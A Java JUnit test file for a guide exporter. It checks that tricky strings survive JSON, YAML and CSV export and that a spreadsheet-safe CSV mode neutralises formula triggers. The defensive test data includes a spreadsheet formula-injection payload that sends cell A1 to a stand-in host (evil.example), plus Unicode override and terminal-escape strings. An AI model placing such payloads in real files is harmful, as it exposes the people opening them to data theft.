package dev.careguide.exporter;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import dev.careguide.i18n.TextDirection;
import dev.careguide.model.Cause;
import dev.careguide.model.CauseCategory;
import dev.careguide.model.Exercise;
import dev.careguide.model.Guide;
import dev.careguide.model.NutrientSource;
import dev.careguide.model.Provenance;
import dev.careguide.model.Remedy;
import dev.careguide.model.RemedyKind;
import dev.careguide.model.ReviewStatus;
import dev.careguide.model.Safety;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Strings that YAML 1.1 readers, spreadsheets or naive CSV/JSON writers get wrong survive every format. */
class HostileContentTest {

    static final List<String> HOSTILE = List.of(
            "no",
            "yes",
            "No",
            "ON",
            "off",
            "y",
            "n",
            "null",
            "Null",
            "~",
            "true",
            "1e3",
            "0x1F",
            "010",
            "0o17",
            "1_000",
            "12:30:00",
            "2024-01-01",
            ".inf",
            "-.Inf",
            ".nan",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "@SUM(A1)",
            "+1-2",
            "-2+3",
            "\tTab first",
            "\rCR first",
            "`backtick`",
            "#not a comment",
            "- dash item",
            "a: b",
            "key:",
            "[x, y]",
            "{a: 1}",
            "!tag",
            "&anchor",
            "*alias",
            "%YAML",
            "|",
            ">",
            "? q",
            "'single'",
            "\"double\" \"quotes\"",
            "line one\nline two",
            "windows\r\nline",
            "trailing newline\n",
            " leading and trailing ",
            "back\\slash",
            "comma, separated; semi",
            "emoji 😀 👩🏽‍⚕️ ✔",
            "עברית עם English בפנים",
            "العربية 123",
            "\u202eRLO override\u202c",
            "zero\u200bwidth",
            "line\u2028separator",
            "bom\ufeffinside",
            "",
            "---",
            "...",
            "<<",
            "-18",
            "+1.5",
            "nul\u0000char",
            "bell\u0007",
            "esc\u001b[31m",
            "nel\u0085line",
            "del\u007f",
            "c1\u009bcsi",
            "surrogate pair 𝄞",
            "\ud83d\ude00 at start");

    @TempDir
    Path tmp;

    static Guide hostileGuide() {
        List<String> steps = HOSTILE;
        return Guide.builder("hostile", "en")
                .title("no")
                .summary("=1+1")
                .add(new Cause(
                        "cause.yes",
                        "1e3",
                        "null",
                        CauseCategory.LIFESTYLE,
                        List.of("no", "~", "0x1F"),
                        ReviewStatus.APPROVED,
                        List.of(new Provenance("=evil.txt", 1, 2, "x"))))
                .add(new Remedy(
                        "remedy.on",
                        "@SUM(A1)",
                        "line one\nline two",
                        RemedyKind.FOLK,
                        steps,
                        List.of(),
                        Safety.needsMedicalReview("=HYPERLINK(\"x\")"),
                        List.of(),
                        ReviewStatus.DRAFT,
                        List.of()))
                .add(new Exercise(
                        "exercise.off",
                        "010",
                        "",
                        List.of("2024-01-01"),
                        null,
                        List.of("yes", "@calf"),
                        ReviewStatus.APPROVED,
                        List.of()))
                .add(new NutrientSource("nutrient.null", "~", "", "null", HOSTILE, ReviewStatus.APPROVED, List.of()))
                .build();
    }

    static GuideContent hostileContent() {
        Guide g = hostileGuide();
        UnaryOperator<String> reversed = s -> new StringBuilder(s).reverse().toString();
        return new GuideContent(
                g,
                List.of(
                        FakeLocaleView.source(g),
                        FakeLocaleView.translated(g, "he", TextDirection.RTL, s -> s.isEmpty() ? s : "עב " + s),
                        FakeLocaleView.translated(g, "ru", TextDirection.LTR, reversed)));
    }

    private Path export(boolean spreadsheetSafe) {
        Path bundle = tmp.resolve(spreadsheetSafe ? "safe" : "raw");
        new BundleWriter()
                .write(
                        List.of(hostileContent()),
                        ExportOptions.defaults("1.0.0").withSpreadsheetSafeCsv(spreadsheetSafe),
                        bundle);
        return bundle;
    }

    @Test
    void hostileStringsRoundTripExactlyThroughJsonYamlAndCsv() throws IOException {
        Path bundle = export(false);
        for (String tag : List.of("en", "he", "ru")) {
            Map<String, Object> json = BundleReaders.json(bundle.resolve("json/" + tag + "/hostile.json"));
            assertThat(BundleReaders.yaml(bundle.resolve("yaml/" + tag + "/hostile.yaml")))
                    .as(tag)
                    .isEqualTo(json);
            assertThat(BundleReaders.csvGuide(bundle.resolve("csv/" + tag + "/hostile")))
                    .as(tag)
                    .isEqualTo(json);
        }
        Map<String, Map<String, Object>> en =
                BundleWriterTest.itemsById(BundleReaders.json(bundle.resolve("json/en/hostile.json")));
        assertThat(texts(en.get("remedy.on").get("steps"))).containsExactlyElementsOf(HOSTILE);
        assertThat(texts(en.get("nutrient.null").get("foods"))).containsExactlyElementsOf(HOSTILE);
        assertThat(en.get("cause.yes").get("nutrients")).isEqualTo(List.of("0x1F", "no", "~"));
        Map<String, Map<String, Object>> ru =
                BundleWriterTest.itemsById(BundleReaders.json(bundle.resolve("json/ru/hostile.json")));
        assertThat(texts(ru.get("remedy.on").get("steps")))
                .containsExactlyElementsOf(HOSTILE.stream()
                        .map(s -> new StringBuilder(s).reverse().toString())
                        .toList());
        assertThat(new BundleValidator().validate(bundle)).isEmpty();
    }

    @Test
    void spreadsheetSafeCsvPrefixesFormulaTriggersWithAnApostrophe() throws IOException {
        Path bundle = export(true);
        for (String tag : List.of("en", "he", "ru")) {
            Map<String, Object> json = BundleReaders.json(bundle.resolve("json/" + tag + "/hostile.json"));
            Map<String, Object> expected = mapStrings(
                    json,
                    s -> !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0 && !s.matches("[+-]?[0-9]+(\\.[0-9]+)?")
                            ? "'" + s
                            : s);
            assertThat(BundleReaders.csvGuide(bundle.resolve("csv/" + tag + "/hostile")))
                    .as(tag)
                    .isEqualTo(expected);
        }
        List<Map<String, String>> steps = BundleReaders.csv(bundle.resolve("csv/en/hostile/steps.csv"));
        assertThat(steps)
                .extracting(r -> r.get("text"))
                .contains(
                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                        "'@SUM(A1)",
                        "'+1-2",
                        "'-2+3",
                        "'\tTab first",
                        "'\rCR first",
                        "no",
                        "'single'",
                        "-18",
                        "+1.5");
    }

    @Test
    void yamlQuotesEveryStringAYaml11ReaderCouldMisread() throws IOException {
        String yaml = Files.readString(export(false).resolve("yaml/en/hostile.yaml"), StandardCharsets.UTF_8);
        for (String s : List.of(
                "no",
                "yes",
                "ON",
                "off",
                "y",
                "n",
                "null",
                "~",
                "1e3",
                "0x1F",
                "010",
                "2024-01-01",
                "12:30:00",
                "@SUM(A1)",
                "`backtick`")) {
            assertThat(yaml).as(s).contains("text: \"" + s + "\"\n");
        }
        assertThat(yaml)
                .contains("- \"0x1F\"\n", "nutrient: \"null\"\n", "startLine: 1\n")
                .doesNotContain("\r\n");
    }

    @Test
    void pyYamlReadsBackExactlyTheJsonContent() throws IOException, InterruptedException {
        assumeThat(pythonWithYaml()).as("python3 with PyYAML").isTrue();
        Path bundle = export(false);
        new BundleWriter()
                .write(List.of(TestGuides.content()), ExportOptions.defaults("1.0.0"), tmp.resolve("example"));
        String script = String.join(
                "\n",
                "import json, sys, pathlib, yaml",
                "bad = []",
                "for root in sys.argv[1:]:",
                "    for y in sorted(pathlib.Path(root, 'yaml').rglob('*.yaml')):",
                "        j = pathlib.Path(root, 'json', *y.relative_to(pathlib.Path(root, 'yaml')).parts).with_suffix('.json')",
                "        a = yaml.safe_load(y.read_text(encoding='utf-8'))",
                "        b = json.loads(j.read_text(encoding='utf-8'))",
                "        if a != b: bad.append(str(y))",
                "print('checked' if not bad else 'MISMATCH ' + ' '.join(bad))");
        Process p = new ProcessBuilder(
                        "python3",
                        "-c",
                        script,
                        bundle.toString(),
                        tmp.resolve("example").toString())
                .redirectErrorStream(true)
                .start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
        assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
        assertThat(out).isEqualTo("checked");
    }

    private static boolean pythonWithYaml() {
        try {
            Process p = new ProcessBuilder("python3", "-c", "import yaml")
                    .redirectErrorStream(true)
                    .start();
            p.getInputStream().readAllBytes();
            return p.waitFor(30, TimeUnit.SECONDS) && p.exitValue() == 0;
        } catch (IOException e) {
            return false;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return false;
        }
    }

    @SuppressWarnings("unchecked")
    private static List<String> texts(Object list) {
        return ((List<Map<String, Object>>) list)
                .stream().map(m -> (String) m.get("text")).toList();
    }

    @SuppressWarnings("unchecked")
    private static <T> T mapStrings(Object value, UnaryOperator<String> f) {
        if (value instanceof Map<?, ?> m) {
            Map<String, Object> out = new LinkedHashMap<>();
            m.forEach((k, v) -> out.put((String) k, mapStrings(v, f)));
            return (T) BundleReaders.normalize(out);
        }
        if (value instanceof List<?> l) {
            List<Object> out = new ArrayList<>();
            l.forEach(v -> out.add(mapStrings(v, f)));
            return (T) out;
        }
        return (T) (value instanceof String s ? f.apply(s) : value);
    }
}
